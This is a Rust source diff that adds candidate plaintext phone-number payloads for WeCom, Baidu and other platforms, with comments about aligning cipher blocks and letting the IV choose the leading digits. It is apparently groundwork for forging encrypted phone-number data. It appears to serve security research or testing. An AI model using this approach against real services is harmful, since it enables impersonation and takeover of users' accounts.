@@ -39,20 +39,27 @@ fn watermark(platform: Platform, time: i64) -> String {
     }
 }
 
+const MAINLAND: [(&str, &str); 2] = [("13800138000", "+8613800138000"), ("15112345678", "+8615112345678")];
+
+/// The members of WeCom's phone payload. The user's id shifts the number against the blocks.
+fn wecom_members() -> Vec<[String; 3]> {
+    let members = |length: usize| {
+        let (user, (number, _)) = ("u".repeat(length), MAINLAND[length % 2]);
+        [format!(r#""corpid":"{CORP}""#), format!(r#""userid":"{user}""#), format!(r#""mobile":"{number}""#)]
+    };
+    (1..=40).map(members).collect()
+}
+
 /// The attacker's own numbers: he may have several, one after the other, some of them abroad.
 pub(crate) fn phones(platform: Platform) -> Vec<Plain> {
-    let mainland = [("13800138000", "+8613800138000"), ("15112345678", "+8615112345678")];
     match platform {
-        Platform::Baidu => (mainland.into_iter())
+        Platform::Baidu => (MAINLAND.into_iter())
             .map(|(number, e164)| Plain { text: format!(r#"{{"mobile":"{number}"}}"#), phone: Some((e164, None)) })
             .collect(),
-        // The user's id shifts the number against the blocks.
-        Platform::Wecom => (1..=40)
-            .map(|length| {
-                let (number, e164) = mainland[length % 2];
-                let user = "u".repeat(length);
-                let text = format!(r#"{{"corpid":"{CORP}","userid":"{user}","mobile":"{number}"}}"#);
-                Plain { text, phone: Some((e164, None)) }
+        Platform::Wecom => (wecom_members().into_iter().enumerate())
+            .flat_map(|(at, [corp, user, mobile])| {
+                let texts = [format!("{{{corp},{user},{mobile}}}"), format!("{{{user},{corp},{mobile}}}")];
+                texts.map(|text| Plain { text, phone: Some((MAINLAND[(at + 1) % 2].1, None)) })
             })
             .collect(),
         _ => {
@@ -66,6 +73,13 @@ pub(crate) fn phones(platform: Platform) -> Vec<Plain> {
                     ("+8615112345678", "15112345678", "86", "+8615112345678"),
                     ("+85251234567", "51234567", "852", "+85251234567"),
                     ("85251234567", "51234567", "852", "+85251234567"),
+                    // With a number of these lengths a block begins within the digits of `purePhoneNumber`.
+                    ("91234567", "91234567", "852", "+85291234567"),
+                    ("1511234567", "1511234567", "49", "+491511234567"),
+                    ("7700900123", "7700900123", "44", "+447700900123"),
+                    ("6591234567", "91234567", "65", "+6591234567"),
+                    ("+474123456", "4123456", "47", "+474123456"),
+                    ("+298212345", "212345", "298", "+298212345"),
                 ] {
                     let text = format!(
                         r#"{{"phoneNumber":"{dialled}","purePhoneNumber":"{pure}","countryCode":"{country}"{mark}}}"#
@@ -224,6 +238,13 @@ pub(crate) fn user_infos(platform: Platform, order: Order) -> Vec<Plain> {
 
 /// Payloads without a text of the user's choice.
 pub(crate) fn others(platform: Platform) -> Vec<Plain> {
+    if platform == Platform::Wecom {
+        // The order of WeCom's members is not known. With the number in front the iv could choose its first digits.
+        let texts = |[corp, user, mobile]: [String; 3]| {
+            [format!("{{{mobile},{corp},{user}}}"), format!("{{{user},{mobile},{corp}}}")]
+        };
+        return wecom_members().into_iter().flat_map(texts).map(|text| Plain { text, phone: None }).collect();
+    }
     let mark = match platform {
         Platform::Wechat | Platform::Douyin => watermark(platform, NOW),
         _ => return Vec::new(),
